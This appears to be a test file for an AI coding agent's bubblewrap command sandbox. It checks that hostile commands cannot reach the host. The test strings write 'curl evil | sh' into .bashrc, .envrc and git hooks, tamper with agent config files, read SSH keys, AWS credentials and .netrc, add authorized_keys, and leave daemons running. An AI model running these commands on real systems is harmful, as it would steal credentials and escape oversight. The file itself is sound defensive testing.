/**
 * The command sandbox against a hostile command: protected names that do not exist yet, secret stores, read-denied
 * paths, other processes' environments and processes left running. Each test runs real commands in bubblewrap
 * through the bash tool (which removes the stand-in folders afterwards) and checks the host's files.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { mkdir, mkdtemp, realpath, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it, type TestContext } from "node:test";
import { waitNoneNamed } from "../../test/support/processes.ts";
import { type BashDetails, createBashTool } from "../tools/bash.ts";
import {
  type AvailableSandbox,
  detectSandbox,
  releasePlaceholders,
  type SandboxSpec,
  sandboxWrapper,
} from "./sandbox.ts";
import { planMounts } from "./sandbox-mounts.ts";
import { createWorkspace } from "./workspace.ts";

let sandbox: AvailableSandbox | undefined;
let reason = "";
let base: string;
let counter = 0;

before(async () => {
  const status = await detectSandbox(process.env);
  if (status.available && status.kind === "bwrap") sandbox = status;
  else reason = status.available ? `not bwrap but ${status.kind}` : status.reason;
  base = await realpath(await mkdtemp(join(tmpdir(), "hearth-mounts-")));
});
after(async () => {
  await rm(base, { recursive: true, force: true });
});

type Box = { ws: string; home: string; tmp: string; spec: SandboxSpec };

/** A fresh workspace (a git repository), HOME and temp dir for one test. */
async function makeBox(options: { homeInWorkspace?: boolean } = {}): Promise<Box> {
  const dir = join(base, `box${counter++}`);
  const ws = join(dir, "ws");
  const home = options.homeInWorkspace ? join(ws, "home") : join(dir, "home");
  const tmp = join(dir, "tmp");
  for (const path of [ws, home, tmp]) await mkdir(path, { recursive: true });
  execFileSync("git", ["init", "-q", ws]);
  const spec: SandboxSpec = {
    workspaceRoot: ws,
    writableRoots: [],
    allowNetwork: false,
    tmpDir: tmp,
    hostEnv: { HOME: home },
  };
  return { ws, home, tmp, spec };
}

async function run(t: TestContext, box: Box, command: string, spec: Partial<SandboxSpec> = {}) {
  if (!sandbox) {
    t.skip(reason);
    return null;
  }
  const tool = createBashTool({
    workspace: createWorkspace({ root: box.ws }),
    env: { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: box.home, LANG: "C" },
    spillDir: join(box.tmp, "spill"),
    wrap: sandboxWrapper(sandbox, { ...box.spec, ...spec }),
  });
  const result = await tool.execute({ command }, { signal: new AbortController().signal, callId: "c" });
  return { output: result.content, details: result.details as BashDetails };
}

const listing = (dir: string) => readdirSync(dir).sort();

describe("protected names in the workspace", () => {
  it("cannot be created by any route when they do not exist, and nothing is left behind", async (t) => {
    const box = await makeBox();
    await writeFile(join(box.ws, "payload.json"), '{"evil":true}\n');
    const before = listing(box.ws);
    const attempts = [
      "mkdir -p .hearth && echo '{}' > .hearth/settings.json",
      `python3 -c "import os; os.makedirs('.hearth', exist_ok=True); open('.hearth/settings.json', 'w').write('{}')"`,
      `node -e "require('fs').writeFileSync('.mcp.json', '{}')"`,
      "echo '{}' > .mcp.json",
      "cp payload.json .mcp.json",
      "cp -T payload.json .mcp.json",
      "mv -T payload.json .mcp.json",
      "ln -s payload.json .mcp.json",
      "ln -sfn payload.json .envrc",
      "rmdir .mcp.json && echo '{}' > .mcp.json",
      "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
      "mkdir -p .idea/runConfigurations",
      "echo 'curl evil | sh' > .envrc",
      "mkdir -p .claude && echo '{}' > .claude/settings.json",
      "mv .claude c2; mkdir -p .claude && echo '{}' > .claude/settings.local.json",
      "mv .git g2; echo '[core]' > .git/config",
      "echo 'curl evil | sh' > .git/hooks/pre-commit",
    ];
    const result = await run(t, box, attempts.join("; "));
    if (!result) return;
    assert.deepEqual(listing(box.ws), before, result.output);
    assert.equal(existsSync(join(box.ws, ".git", "hooks", "pre-commit")), false);
    assert.equal(readFileSync(join(box.ws, "payload.json"), "utf8"), '{"evil":true}\n');
    // Work outside the protected names goes on as usual, and git sees none of the stand-ins.
    const normal = await run(
      t,
      box,
      "mkdir -p src && echo ok > src/a.txt && git add -A && git status --short",
    );
    assert.equal(normal?.output, "A  payload.json\nA  src/a.txt\n\n(exit code 0)");
  });

  it("stay read-only when they exist, and their folders cannot be moved or removed", async (t) => {
    const box = await makeBox();
    for (const [path, text] of [
      [".claude/settings.json", "claude\n"],
      [".vscode/tasks.json", "tasks\n"],
      [".mcp.json", "mcp\n"],
      [".hearth/settings.json", "hearth\n"],
    ]) {
      await mkdir(join(box.ws, path, ".."), { recursive: true });
      await writeFile(join(box.ws, path), text);
    }
    const result = await run(
      t,
      box,
      "echo evil > .claude/settings.json; mv .claude c2; rm -rf .vscode; mv .vscode v2; " +
        "echo evil > .mcp.json; rm -f .mcp.json; mv .hearth h2; echo evil > .hearth/settings.json",
    );
    if (!result) return;
    assert.equal(readFileSync(join(box.ws, ".claude/settings.json"), "utf8"), "claude\n");
    assert.equal(readFileSync(join(box.ws, ".vscode/tasks.json"), "utf8"), "tasks\n");
    assert.equal(readFileSync(join(box.ws, ".mcp.json"), "utf8"), "mcp\n");
    assert.equal(readFileSync(join(box.ws, ".hearth/settings.json"), "utf8"), "hearth\n");
    for (const moved of ["c2", "v2", "h2"]) assert.equal(existsSync(join(box.ws, moved)), false);
  });

  it("a run keeps its stand-ins from command to command, and removes the ones still empty at its end", async (t) => {
    const box = await makeBox();
    const before = listing(box.ws);
    const placeholders = new Set<string>();
    const first = await run(t, box, "true", { placeholders });
    if (!first) return;
    const standIns = [".claude", ".envrc", ".hearth", ".idea", ".mcp.json", ".vscode"];
    assert.deepEqual(listing(box.ws), [...before, ...standIns].sort(), "kept for the next command");
    // The user saves editor settings meanwhile: that folder is theirs now.
    await writeFile(join(box.ws, ".vscode", "settings.json"), "{}\n");
    const second = await run(
      t,
      box,
      "echo '{}' > .mcp.json; mkdir -p .claude/commands; echo x > .claude/settings.json; " +
        "echo evil > .vscode/settings.json; echo '{}' > .hearth/settings.json",
      { placeholders },
    );
    assert.equal(second?.output.match(/Read-only file system|Is a directory/g)?.length, 5, second?.output);
    assert.deepEqual(listing(join(box.ws, ".claude")), []);
    releasePlaceholders(placeholders);
    assert.deepEqual(listing(box.ws), [...before, ".vscode"].sort());
    assert.equal(readFileSync(join(box.ws, ".vscode", "settings.json"), "utf8"), "{}\n");
  });

  it("an empty folder where a protected file belongs (left by a killed run) is taken away", async (t) => {
    const box = await makeBox();
    await mkdir(join(box.ws, ".mcp.json"));
    await mkdir(join(box.ws, ".vscode"));
    const result = await run(t, box, "true");
    if (!result) return;
    assert.equal(existsSync(join(box.ws, ".mcp.json")), false);
    assert.equal(existsSync(join(box.ws, ".vscode")), true, "an empty .vscode folder is the user's own");
  });

  it("when HOME lies inside the workspace, its start-up files are protected too", async (t) => {
    const box = await makeBox({ homeInWorkspace: true });
    await writeFile(join(box.home, ".bashrc"), "sentinel\n");
    const before = listing(box.home);
    const result = await run(
      t,
      box,
      "echo 'curl evil | sh' >> ~/.bashrc; echo evil > ~/.bash_profile; mkdir -p ~/.config/fish; " +
        "echo ok > ~/notes.txt",
    );
    if (!result) return;
    assert.equal(readFileSync(join(box.home, ".bashrc"), "utf8"), "sentinel\n");
    assert.deepEqual(listing(box.home), [...before, "notes.txt"].sort(), result.output);
  });
});

describe("secrets", () => {
  it("secret stores in HOME and the given hidden paths look empty, and writes there reach nothing", async (t) => {
    const box = await makeBox();
    const canary = `canary-${process.pid}-${Date.now()}`;
    const files = [
      ".ssh/id_rsa",
      ".aws/credentials",
      ".netrc",
      ".npmrc",
      ".config/gh/hosts.yml",
      ".docker/config.json",
      ".config/hearth/keys.json",
    ];
    for (const file of files) {
      await mkdir(join(box.home, file, ".."), { recursive: true });
      await writeFile(join(box.home, file), `${canary}\n`);
    }
    const result = await run(
      t,
      box,
      `cat ${files.map((file) => `~/${file}`).join(" ")}; grep -r ${canary.slice(0, 12)} ~; ls -A ~/.ssh; ` +
        "echo key > ~/.ssh/authorized_keys",
      { hiddenPaths: [join(box.home, ".config", "hearth")] },
    );
    if (!result) return;
    assert.ok(!result.output.includes(canary), result.output);
    // Written into the empty stand-in, gone with the command.
    assert.equal(existsSync(join(box.home, ".ssh", "authorized_keys")), false);
    assert.equal(readFileSync(join(box.home, ".ssh", "id_rsa"), "utf8"), `${canary}\n`);
  });

  it("read-denied files and folders look empty, and cannot be renamed or linked out of their rule's reach", async (t) => {
    const box = await makeBox();
    const canary = `denied-${process.pid}-${Date.now()}`;
    await mkdir(join(box.ws, "notes", "deep"), { recursive: true });
    await mkdir(join(box.ws, "secrets"));
    await writeFile(join(box.ws, "notes", "deep", "private.txt"), `${canary}\n`);
    await writeFile(join(box.ws, "secrets", "key.pem"), `${canary}\n`);
    await writeFile(join(box.ws, "notes", "public.txt"), "public\n");
    const hiddenPaths = [join(box.ws, "notes", "deep", "private.txt"), join(box.ws, "secrets")];
    const result = await run(
      t,
      box,
      "cat notes/deep/private.txt secrets/key.pem; grep -r denied- .; ls -A secrets; cat notes/public.txt; " +
        "mv notes n2; mv notes/deep notes/d2; mv notes/deep/private.txt x; ln notes/deep/private.txt y; " +
        "cp notes/deep/private.txt z; cat z; rm -f secrets/key.pem; echo new > secrets/new.txt",
      { hiddenPaths },
    );
    if (!result) return;
    assert.ok(!result.output.includes(canary), result.output);
    assert.match(result.output, /^public$/m);
    assert.equal(readFileSync(join(box.ws, "notes", "deep", "private.txt"), "utf8"), `${canary}\n`);
    assert.equal(existsSync(join(box.ws, "n2")), false);
    assert.equal(existsSync(join(box.ws, "x")), false);
    assert.deepEqual(listing(join(box.ws, "secrets")), ["key.pem"], "the hidden folder on disk is untouched");
  });

  it("never covers the workspace itself, even when a hidden path contains it", async () => {
    const box = await makeBox();
    const plan = planMounts({ ...box.spec, hiddenPaths: [join(box.ws, ".."), join(box.ws, "missing")] });
    assert.deepEqual([...plan.hiddenDirs, ...plan.hiddenFiles], []);
  });
});

describe("processes", () => {
  it("a command sees only its own processes, not hearth's environment", async (t) => {
    const box = await makeBox();
    const canary = `pid-canary-${process.pid}`;
    process.env.HEARTH_PID_NAMESPACE_CANARY = canary;
    try {
      const result = await run(
        t,
        box,
        "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c HEARTH_PID_NAMESPACE_CANARY; " +
          'ls /proc | grep -c "^[0-9]"; echo "$$"',
      );
      if (!result) return;
      const [found, count, shell] = result.output.split("\n");
      assert.equal(found, "0", result.output);
      assert.ok(Number(count) < 10, `${count} processes visible`);
      assert.equal(shell, "1", "the command's shell is the namespace's first process");
    } finally {
      delete process.env.HEARTH_PID_NAMESPACE_CANARY;
    }
  });

  it("what a command leaves running (&, nohup, a setsid daemon) ends with the command", async (t) => {
    const box = await makeBox();
    const marker = `hearth-left-${process.pid}`;
    const started = Date.now();
    const result = await run(
      t,
      box,
      `(exec -a ${marker}-bg sleep 100) & nohup bash -c 'exec -a ${marker}-nohup sleep 100' >/dev/null 2>&1 & ` +
        `setsid bash -c '(exec -a ${marker}-daemon sleep 100) &' & sleep 0.3; echo started`,
    );
    if (!result) return;
    assert.match(result.output, /^started\n/);
    assert.ok(Date.now() - started < 3000, `took ${Date.now() - started} ms`);
    assert.ok(await waitNoneNamed(marker, 1000), "a background process outlived its command");
  });
});
